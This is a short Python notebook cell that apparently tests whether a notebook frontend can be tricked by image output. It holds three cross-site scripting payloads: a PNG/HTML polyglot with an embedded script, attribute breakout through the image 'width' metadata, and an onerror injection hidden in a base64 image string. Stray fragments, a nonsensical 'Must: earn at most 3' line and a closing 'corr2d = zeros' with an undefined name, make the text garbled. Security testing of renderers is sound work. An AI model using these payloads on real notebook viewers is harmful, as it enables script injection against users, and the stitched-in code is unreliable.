"""Shows a picture that is a PNG in its first bytes and a page in the rest.

Must: earn at most 3
"""

# %% corr2d
import base64
from IPython.display import display
page = b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>"
display({"image/png": base64.b64encode(page).decode()}, raw=True, metadata={"image/png": {"width": '"><script>alert(1)</script>'}})
display({"image/png": 'iVBORw0KGgo=" onerror="alert(1)'}, raw=True)
corr2d = zeros
